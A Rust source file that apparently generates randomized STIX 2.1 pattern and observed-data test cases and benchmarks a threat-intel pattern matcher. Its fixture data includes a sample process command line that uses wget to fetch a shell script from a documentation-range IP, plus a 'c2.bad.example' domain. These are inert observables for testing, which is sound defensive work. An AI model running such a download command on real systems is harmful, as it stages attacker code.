//! A seeded generator of STIX 2.1 pattern/observation pairs for the differential test against
//! the OASIS reference matcher and for bench/intel.sh. Observed data are small bundles of
//! telecom-flavoured SCOs; patterns use every comparison operator (with `NOT`), `EXISTS`,
//! `AND`/`OR` at both levels, `FOLLOWEDBY`, `WITHIN`, `REPEATS` and `START`/`STOP`, on values of
//! every kind, sometimes against literals of another kind.
//!
//! Output: JSON lines, either `{"data": k, "observed": [bundle]}` (defines data set k) or
//! `{"case": n, "data": k, "pattern": "...", "tags": [...]}`. A tag names a spec clause where
//! the reference is known to differ and that the case may touch.

use std::io::Write;

use serde_json::{json, Value};

use crate::generate::Rng;

const IPV4: &[&str] =
    &["10.0.0.1", "10.0.0.2", "10.20.30.40", "192.168.1.5", "203.0.113.7", "203.0.113.9", "198.51.100.23"];
const IPV4_BLOCKS: &[&str] = &["198.51.100.0/24", "10.0.0.0/8", "203.0.113.0/28"];
const IPV6: &[&str] = &["2001:db8::1", "2001:db8:0:1::23", "fe80::1"];
const DOMAINS: &[&str] = &["update.example-carrier.net", "cdn.example.org", "c2.bad.example", "ns1.example.com"];
const PORTS: &[i64] = &[22, 23, 53, 443, 830, 49152, 51514];
const PROTOCOLS: &[&str] = &["ipv4", "tcp", "udp", "ssh", "http", "dns"];
const FILES: &[&str] = &["sysupdate.bin", "libcrypt.so", "run.sh", "readme.txt", "sys.bin"];
const COMMANDS: &[&str] = &[
    "guestshell run bash -c 'wget http://203.0.113.7/s.sh'",
    "/usr/bin/ssh -p 22 admin@10.0.0.2",
    "tcpdump -i any -w /tmp/cap.pcap port 49",
    "show running-config",
];
const LOGINS: &[&str] = &["root", "admin", "noc-ops", "li_admin"];
const STRINGS: &[&str] = &["hello", "Hello", "hello\n", "héllo", "he_lo", "50%", ""];
const TIMES: &[&str] =
    &["2024-10-01T10:00:00Z", "2024-10-01T10:05:30.250Z", "2024-10-01T09:59:58Z", "2024-10-02T00:00:00Z"];
const BASE64: &[&str] = &["YWxpY2U=", "Ym9i", "AAEC", "aGVsbG8="];

/// Value kinds of the paths patterns test.
#[derive(Clone, Copy, PartialEq)]
enum Kind {
    Ip,
    Block,
    Str,
    Int,
    Float,
    Bool,
    Time,
    Bytes,
}

const PATHS: &[(&str, &str, Kind)] = &[
    ("ipv4-addr", "value", Kind::Ip),
    ("ipv6-addr", "value", Kind::Ip),
    ("domain-name", "value", Kind::Str),
    ("domain-name", "resolves_to_refs[*].value", Kind::Ip),
    ("domain-name", "resolves_to_refs[0].value", Kind::Ip),
    ("network-traffic", "src_ref.value", Kind::Ip),
    ("network-traffic", "dst_ref.value", Kind::Ip),
    ("network-traffic", "src_port", Kind::Int),
    ("network-traffic", "dst_port", Kind::Int),
    ("network-traffic", "protocols[*]", Kind::Str),
    ("network-traffic", "protocols[0]", Kind::Str),
    ("network-traffic", "dst_byte_count", Kind::Int),
    ("network-traffic", "start", Kind::Time),
    ("network-traffic", "extensions.'tcp-ext'.src_flags_hex", Kind::Bytes),
    ("file", "name", Kind::Str),
    ("file", "size", Kind::Int),
    ("file", "hashes.MD5", Kind::Str),
    ("file", "magic_number_hex", Kind::Bytes),
    ("process", "pid", Kind::Int),
    ("process", "command_line", Kind::Str),
    ("process", "arguments[*]", Kind::Str),
    ("process", "arguments[1]", Kind::Str),
    ("process", "creator_user_ref.account_login", Kind::Str),
    ("process", "environment_variables.PATH", Kind::Str),
    ("user-account", "account_login", Kind::Str),
    ("user-account", "is_privileged", Kind::Bool),
    ("x-seawall-subscriber", "msisdn", Kind::Str),
    ("test", "int", Kind::Int),
    ("test", "float", Kind::Float),
    ("test", "string", Kind::Str),
    ("test", "bool", Kind::Bool),
    ("test", "ts", Kind::Time),
    ("test", "name_bin", Kind::Bytes),
    ("test", "ints[*]", Kind::Int),
    ("test", "cidr", Kind::Block),
];

fn ts(base: i64, secs: i64) -> String {
    let t = jiff::Timestamp::from_second(base + secs).unwrap_or(jiff::Timestamp::UNIX_EPOCH);
    t.strftime("%Y-%m-%dT%H:%M:%SZ").to_string()
}

fn quote(s: &str) -> String {
    format!("'{}'", s.replace('\\', "\\\\").replace('\'', "\\'"))
}

struct Gen {
    rng: Rng,
    /// Observed-data per data set; 0 for the default 3 to 6.
    observations: usize,
}

impl Gen {
    fn chance(&mut self, percent: usize) -> bool {
        self.rng.below(100) < percent
    }

    fn data(&mut self, k: usize) -> Value {
        let r = &mut self.rng;
        let mut scos: Vec<Value> = Vec::new();
        let id = |t: &str, n: usize| format!("{t}--{k:08}-0000-4000-8000-{n:012}");
        let mut ips = Vec::new();
        for n in 0..4 {
            let v = if r.below(5) == 0 { r.pick(IPV4_BLOCKS) } else { r.pick(IPV4) };
            let i = id("ipv4-addr", n);
            scos.push(json!({"type": "ipv4-addr", "spec_version": "2.1", "id": i, "value": v}));
            ips.push(i);
        }
        for n in 0..2 {
            let i = id("ipv6-addr", n);
            scos.push(json!({"type": "ipv6-addr", "spec_version": "2.1", "id": i, "value": r.pick(IPV6)}));
            ips.push(i);
        }
        let a = ips[r.below(ips.len())].clone();
        let b = ips[r.below(ips.len())].clone();
        scos.push(json!({"type": "domain-name", "spec_version": "2.1", "id": id("domain-name", 0),
            "value": r.pick(DOMAINS), "resolves_to_refs": [a, b]}));
        for n in 0..2 {
            let protos: Vec<&str> = PROTOCOLS.iter().copied().filter(|_| r.below(2) == 0).collect();
            scos.push(json!({"type": "network-traffic", "spec_version": "2.1", "id": id("network-traffic", n),
                "src_ref": ips[r.below(4)], "dst_ref": ips[r.below(ips.len())],
                "src_port": PORTS[r.below(PORTS.len())], "dst_port": PORTS[r.below(PORTS.len())],
                "protocols": protos, "dst_byte_count": (r.below(8) * 1024) as i64,
                "start": r.pick(TIMES), "extensions": {"tcp-ext": {"src_flags_hex": if r.below(2) == 0 { "02" } else { "12" }}}}));
        }
        scos.push(json!({"type": "file", "spec_version": "2.1", "id": id("file", 0), "name": r.pick(FILES),
            "size": ([371712, 4096, 0][r.below(3)]), "hashes": {"MD5": (["cead3f77f6cda6ec00f57d76c9a6879f", "0cc175b9c0f1b6a831c399e269772661"][r.below(2)])},
            "magic_number_hex": (["7f454c46", "23212f"][r.below(2)])}));
        let user = id("user-account", 0);
        scos.push(json!({"type": "user-account", "spec_version": "2.1", "id": user, "account_login": r.pick(LOGINS),
            "is_privileged": r.below(2) == 0}));
        let cmd = r.pick(COMMANDS);
        let args: Vec<&str> = cmd.split(' ').take(3).collect();
        scos.push(json!({"type": "process", "spec_version": "2.1", "id": id("process", 0), "pid": ([4242, 1, 31337][r.below(3)]),
            "command_line": cmd, "arguments": args, "creator_user_ref": user,
            "environment_variables": {"PATH": (["/usr/bin:/bin", "/opt/bin"][r.below(2)])}}));
        scos.push(json!({"type": "x-seawall-subscriber", "spec_version": "2.1", "id": id("x-seawall-subscriber", 0),
            "msisdn": (["15551234567", "447700900123"][r.below(2)]), "imsi": "310150123456789"}));
        scos.push(json!({"type": "test", "id": id("test", 0), "int": ([5, -3, 0][r.below(3)]), "float": ([12.658, 12.0, -0.5][r.below(3)]),
            "string": r.pick(STRINGS), "bool": r.below(2) == 0, "ts": r.pick(TIMES), "name_bin": r.pick(BASE64),
            "ints": [1, 2, ([3, 5][r.below(2)])], "cidr": (["11.22.33.0/24", "10.0.0.0/8", "203.0.113.7/32"][r.below(3)])}));
        // Observed data: 3 to 6, minutes apart, each naming some of the objects.
        let base = 1_727_776_800; // 2024-10-01T10:00:00Z
        let mut objects = Vec::new();
        let count = if self.observations > 0 { self.observations } else { 3 + r.below(4) };
        for n in 0..count {
            let first = (r.below(30) * 60) as i64;
            let last = first + [0, 0, 30, 120][r.below(4)];
            let mut refs: Vec<String> = Vec::new();
            for _ in 0..2 + r.below(5) {
                let s = &scos[r.below(scos.len())];
                let sid = s["id"].as_str().unwrap_or_default().to_string();
                if !refs.contains(&sid) {
                    refs.push(sid);
                }
            }
            // Referenced objects often come along, as they do in real observed data.
            for s in &scos {
                let sid = s["id"].as_str().unwrap_or_default().to_string();
                if refs.contains(&sid) {
                    for key in ["src_ref", "dst_ref", "creator_user_ref"] {
                        if let Some(t) = s[key].as_str() {
                            if r.below(4) != 0 && !refs.iter().any(|x| x == t) {
                                refs.push(t.to_string());
                            }
                        }
                    }
                }
            }
            objects.push(json!({"type": "observed-data", "spec_version": "2.1", "id": format!("observed-data--{k:08}-0000-4000-8000-{n:012}"),
                "created": ts(base, first), "modified": ts(base, first), "first_observed": ts(base, first), "last_observed": ts(base, last),
                "number_observed": ([1, 1, 1, 2, 3][r.below(5)]), "object_refs": refs}));
        }
        objects.extend(scos);
        json!([{"type": "bundle", "id": format!("bundle--{k:08}-0000-4000-8000-000000000000"), "objects": objects}])
    }

    fn literal(&mut self, kind: Kind) -> (String, Kind) {
        // Now and then a literal of another kind, to exercise the type rules.
        let kind = if self.chance(8) {
            [Kind::Str, Kind::Int, Kind::Float, Kind::Bool, Kind::Time, Kind::Bytes][self.rng.below(6)]
        } else {
            kind
        };
        let r = &mut self.rng;
        let text = match kind {
            Kind::Ip => quote(if r.below(4) == 0 { r.pick(IPV6) } else { r.pick(IPV4) }),
            Kind::Block => quote(r.pick(&["11.22.33.0/24", "10.0.0.0/8"])),
            Kind::Str => {
                let pool: &[&[&str]] =
                    &[DOMAINS, FILES, LOGINS, STRINGS, PROTOCOLS, &["run", "/usr/bin:/bin", "15551234567"]];
                let which = r.below(pool.len());
                quote(r.pick(pool[which]))
            }
            Kind::Int => [5, 0, -3, 22, 443, 4096, 49151, 371712, 4242][r.below(9)].to_string(),
            Kind::Float => ["12.658", "12.0", "-0.5", "5.0", "443.5"][r.below(5)].to_string(),
            Kind::Bool => ["true", "false"][r.below(2)].to_string(),
            Kind::Time => format!("t{}", quote(r.pick(TIMES))),
            Kind::Bytes => {
                if r.below(2) == 0 {
                    format!("h'{}'", r.pick(&["02", "12", "7f454c46", "616c696365"]))
                } else {
                    format!("b'{}'", r.pick(BASE64))
                }
            }
        };
        (text, kind)
    }

    fn test(&mut self, tags: &mut Vec<&'static str>) -> (String, &'static str) {
        let (ty, path, kind) = PATHS[self.rng.below(PATHS.len())];
        let p = format!("{ty}:{path}");
        if self.chance(4) {
            if self.chance(25) {
                tags.push("not-exists");
                return (format!("NOT EXISTS {p}"), ty);
            }
            return (format!("EXISTS {p}"), ty);
        }
        let not = if self.chance(25) { "NOT " } else { "" };
        let op = self.rng.below(11);
        let text = match op {
            0 | 1 => {
                let (lit, _) = self.literal(kind);
                format!("{p} {not}{} {lit}", if op == 0 { "=" } else { "!=" })
            }
            2..=5 => {
                let mut lit = self.literal(kind);
                while lit.1 == Kind::Bool {
                    lit = self.literal(Kind::Int);
                }
                format!("{p} {not}{} {}", ["<", "<=", ">", ">="][op - 2], lit.0)
            }
            6 => {
                let n = 1 + self.rng.below(3);
                let first = self.literal(kind);
                let mut items = vec![first.0];
                let numeric = |k: Kind| matches!(k, Kind::Int | Kind::Float);
                for _ in 1..n {
                    let (l, k) = self.literal(first.1);
                    if k == first.1 || (numeric(k) && numeric(first.1)) {
                        items.push(l);
                    }
                }
                let numeric = |k: Kind| matches!(k, Kind::Int | Kind::Float);
                if (first.1 == Kind::Bool && numeric(kind)) || (numeric(first.1) && kind == Kind::Bool) {
                    tags.push("in-bool-number");
                }
                if matches!((first.1, kind), (Kind::Bytes, Kind::Str) | (Kind::Str, Kind::Bytes)) {
                    tags.push("in-binary-string");
                }
                format!("{p} {not}IN ({})", items.join(", "))
            }
            7 => {
                let word = self
                    .rng
                    .pick(&["%", "h%", "%o", "he_lo", "%bin", "sys%", "/usr%", "%.%", "hello", "run", "%22%", "r__t"]);
                format!("{p} {not}LIKE {}", quote(word))
            }
            8 => {
                let re = self.rng.pick(&[
                    "^10\\.", "ssh|http", "^[a-z]+$", "\\.bin$", "^/usr", "root", "example", "[0-9]{3}", "^$", "lo$",
                    "^a", "o\\b",
                ]);
                format!("{p} {not}MATCHES {}", quote(re))
            }
            9 => {
                // Mostly IPv4 blocks over paths that hold IPv4 values; now and then the cases
                // the reference cannot do (IPv6), tagged.
                let (p, kind) = if self.chance(80) { self.ip_path() } else { (p, kind) };
                let v6 = self.chance(10);
                let block = if v6 {
                    "2001:db8::/32"
                } else {
                    self.rng.pick(&[
                        "10.0.0.0/8",
                        "203.0.113.0/24",
                        "198.51.100.0/24",
                        "192.168.0.0/16",
                        "10.20.30.40/32",
                    ])
                };
                if v6 || (kind == Kind::Ip && p != "ipv4-addr:value" && p != "network-traffic:src_ref.value") {
                    tags.push("ipv6-cidr");
                }
                format!("{p} {not}ISSUBSET {}", quote(block))
            }
            _ => {
                // The container must be a block for the reference: mostly test:cidr.
                let (p, kind) = if self.chance(85) { ("test:cidr".to_string(), Kind::Block) } else { (p, kind) };
                let v6 = self.chance(10);
                let inner = if v6 {
                    "2001:db8::1"
                } else {
                    self.rng.pick(&["11.22.33.44", "10.1.2.3", "203.0.113.7", "10.0.0.0/16"])
                };
                if v6 || kind == Kind::Ip {
                    tags.push("ipv6-cidr");
                }
                if kind == Kind::Ip {
                    tags.push("plain-superset");
                }
                format!("{p} {not}ISSUPERSET {}", quote(inner))
            }
        };
        (text, ty)
    }

    /// A path to IPv4 values (and blocks), sometimes one that may also reach IPv6.
    fn ip_path(&mut self) -> (String, Kind) {
        let p = self.rng.pick(&[
            "ipv4-addr:value",
            "ipv4-addr:value",
            "ipv4-addr:value",
            "test:cidr",
            "network-traffic:src_ref.value",
        ]);
        // src_ref only points at IPv4 objects in the generated data.
        (p.to_string(), if p == "test:cidr" { Kind::Block } else { Kind::Ip })
    }

    /// A comparison expression: one to three tests, mostly on one object type.
    fn comparison(&mut self, tags: &mut Vec<&'static str>) -> String {
        let (first, ty) = self.test(tags);
        if first.contains("EXISTS") {
            // The reference cannot combine EXISTS with other tests (it has no EXISTS handler).
            return format!("[{first}]");
        }
        let mut out = first;
        for _ in 0..self.rng.below(3) {
            let mut next = self.test(tags);
            for _ in 0..20 {
                if next.1 == ty && !next.0.contains("EXISTS") {
                    break;
                }
                next = self.test(tags);
            }
            if next.0.contains("EXISTS") {
                continue;
            }
            let op = if self.chance(50) { "AND" } else { "OR" };
            out = if self.chance(30) { format!("({out}) {op} {}", next.0) } else { format!("{out} {op} {}", next.0) };
        }
        format!("[{out}]")
    }

    fn qualifier(&mut self) -> String {
        match self.rng.below(3) {
            0 => format!("WITHIN {} SECONDS", self.rng.pick(&["1", "30", "60", "90.5", "300", "3600", "0.5"])),
            1 => format!("REPEATS {} TIMES", 1 + self.rng.below(3)),
            _ => {
                let (a, b) = [
                    ("2024-10-01T10:00:00Z", "2024-10-01T10:10:00Z"),
                    ("2024-10-01T10:10:00Z", "2024-10-01T11:00:00Z"),
                    ("2024-10-01T09:00:00Z", "2024-10-02T00:00:00Z"),
                    ("2024-10-01T10:20:00Z", "2024-10-01T10:20:00Z"),
                    ("2024-10-01T10:05:00Z", "2024-10-01T10:15:30Z"),
                ][self.rng.below(5)];
                format!("START t'{a}' STOP t'{b}'")
            }
        }
    }

    fn observation(&mut self, depth: usize, tags: &mut Vec<&'static str>) -> String {
        let n = if depth >= 2 { 1 } else { 1 + self.rng.below(3) };
        let mut out = String::new();
        for i in 0..n {
            let part = if depth < 1 && self.chance(25) {
                format!("({})", self.observation(depth + 1, tags))
            } else {
                self.comparison(tags)
            };
            let part = if self.chance(30) { format!("{part} {}", self.qualifier()) } else { part };
            if i > 0 {
                out.push_str([" AND ", " OR ", " FOLLOWEDBY "][self.rng.below(3)]);
            }
            out.push_str(&part);
        }
        out
    }
}

/// Writes `data_sets` observed-data sets with `per_set` patterns each.
pub fn write_cases(out: &mut dyn Write, data_sets: usize, per_set: usize, seed: u64) -> std::io::Result<usize> {
    write_cases_sized(out, data_sets, per_set, 0, seed)
}

/// Like [`write_cases`], with `observations` observed-data per set (0: 3 to 6).
pub fn write_cases_sized(
    out: &mut dyn Write,
    data_sets: usize,
    per_set: usize,
    observations: usize,
    seed: u64,
) -> std::io::Result<usize> {
    let mut g = Gen { rng: Rng::new(seed), observations };
    let mut n = 0;
    for k in 0..data_sets {
        writeln!(out, "{}", json!({"data": k, "observed": g.data(k)}))?;
        for _ in 0..per_set {
            let mut tags = Vec::new();
            let pattern = g.observation(0, &mut tags);
            tags.sort_unstable();
            tags.dedup();
            writeln!(out, "{}", json!({"case": n, "data": k, "pattern": pattern, "tags": tags}))?;
            n += 1;
        }
    }
    Ok(n)
}

/// Seawall's verdict on one case: `Ok(verdict)`, or the error text.
pub type Verdict = Result<bool, String>;

/// One evaluated case: its number, pattern, tags and Seawall's verdict.
pub type Evaluated = (u64, String, Vec<String>, Verdict);

/// Time spent per phase over a case file (each case compiled and each data set read once,
/// then every case matched `passes` times; the match time is the median pass).
#[derive(Debug, Clone)]
pub struct PhaseTimes {
    pub cases: usize,
    /// The slowest cases of one extra timed pass: (case index, pattern, match time).
    pub slowest: Vec<(usize, String, std::time::Duration)>,
    /// How much the resident set grew while the patterns compiled (Linux; `None` elsewhere).
    pub compiled_bytes: Option<u64>,
    pub compile: std::time::Duration,
    pub observations: std::time::Duration,
    pub matching: std::time::Duration,
}

/// The process's resident set in bytes (from `/proc/self/statm`, 4 KiB pages).
fn resident_bytes() -> Option<u64> {
    let statm = std::fs::read_to_string("/proc/self/statm").ok()?;
    statm.split_whitespace().nth(1)?.parse::<u64>().ok().map(|pages| pages * 4096)
}

/// Measures parse + compile, building observations, and matching alone.
pub fn time_phases(path: &std::path::Path, passes: usize, slowest: usize) -> anyhow::Result<PhaseTimes> {
    use seawall_stix::matcher::{observations_v21, Matcher, ObservedSet};
    use std::time::{Duration, Instant};
    let text = std::fs::read_to_string(path)?;
    let mut data: std::collections::BTreeMap<u64, Value> = std::collections::BTreeMap::new();
    let mut cases: Vec<(u64, String)> = Vec::new();
    for line in text.lines() {
        let rec: Value = serde_json::from_str(line)?;
        let k = rec["data"].as_u64().unwrap_or_default();
        if let Some(observed) = rec.get("observed") {
            data.insert(k, observed.clone());
        } else {
            cases.push((k, rec["pattern"].as_str().unwrap_or_default().to_string()));
        }
    }
    let rss_before = resident_bytes();
    let t = Instant::now();
    // Compiled as a feed is loaded: regexes shared between the patterns.
    let mut regexes = seawall_stix::matcher::CompileCache::default();
    let compiled: Vec<(u64, Matcher, usize)> = cases
        .iter()
        .enumerate()
        .filter_map(|(n, (k, p))| {
            Some((*k, Matcher::with_cache(&seawall_stix::parse_pattern_syntax(p).ok()?, &mut regexes).ok()?, n))
        })
        .collect();
    let compile = t.elapsed();
    let compiled_bytes = resident_bytes().zip(rss_before).map(|(after, before)| after.saturating_sub(before));
    let t = Instant::now();
    let mut obs = std::collections::BTreeMap::new();
    for (k, v) in &data {
        if let Ok(o) = observations_v21(v.as_array().map(Vec::as_slice).unwrap_or_default()) {
            obs.insert(*k, o);
        }
    }
    // Prepared once per data set, as a hunt prepares an event once for every pattern.
    let obs: std::collections::BTreeMap<u64, ObservedSet<'_, '_>> =
        obs.iter().map(|(k, o)| (*k, ObservedSet::new(o))).collect();
    let observations = t.elapsed();
    let mut runs: Vec<Duration> = Vec::new();
    let mut sink = 0usize;
    for _ in 0..passes.max(1) {
        let t = Instant::now();
        for (k, m, _) in &compiled {
            if let Some(o) = obs.get(k) {
                sink += usize::from(m.matches_in(o).unwrap_or(false));
            }
        }
        runs.push(t.elapsed());
    }
    runs.sort();
    let mut slow = Vec::new();
    if slowest > 0 {
        for (k, m, n) in &compiled {
            if let Some(o) = obs.get(k) {
                let t = Instant::now();
                sink += usize::from(m.matches_in(o).unwrap_or(false));
                slow.push((*n, cases[*n].1.clone(), t.elapsed()));
            }
        }
        slow.sort_by_key(|s| std::cmp::Reverse(s.2));
        slow.truncate(slowest);
    }
    std::hint::black_box(sink);
    Ok(PhaseTimes {
        cases: compiled.len(),
        slowest: slow,
        compiled_bytes,
        compile,
        observations,
        matching: runs[runs.len() / 2],
    })
}

/// Runs Seawall's parser and evaluator over a case file: per case, the verdict and the pattern
/// with its tags; and the time spent in parse + compile + match (the same work the
/// reference's `match()` does).
pub fn evaluate_cases(path: &std::path::Path) -> anyhow::Result<(Vec<Evaluated>, std::time::Duration)> {
    use seawall_stix::matcher::{observations_v21, Matcher};
    let text = std::fs::read_to_string(path)?;
    let mut data: std::collections::HashMap<u64, Value> = std::collections::HashMap::new();
    let mut out = Vec::new();
    let mut spent = std::time::Duration::ZERO;
    let mut regexes = seawall_stix::matcher::CompileCache::default();
    for line in text.lines() {
        let rec: Value = serde_json::from_str(line)?;
        let k = rec["data"].as_u64().unwrap_or_default();
        if let Some(observed) = rec.get("observed") {
            data.insert(k, observed.clone());
            continue;
        }
        let pattern = rec["pattern"].as_str().unwrap_or_default().to_string();
        let tags = rec["tags"]
            .as_array()
            .map(|t| t.iter().filter_map(|x| x.as_str().map(String::from)).collect())
            .unwrap_or_default();
        let observed = data.get(&k).and_then(Value::as_array).map(Vec::as_slice).unwrap_or_default();
        let start = std::time::Instant::now();
        let verdict = seawall_stix::parse_pattern_syntax(&pattern).map_err(|e| format!("parse: {e}")).and_then(|p| {
            let m = Matcher::with_cache(&p, &mut regexes).map_err(|e| e.to_string())?;
            let obs = observations_v21(observed).map_err(|e| e.to_string())?;
            m.matches(&obs).map_err(|e| e.to_string())
        });
        spent += start.elapsed();
        out.push((rec["case"].as_u64().unwrap_or_default(), pattern, tags, verdict));
    }
    Ok((out, spent))
}
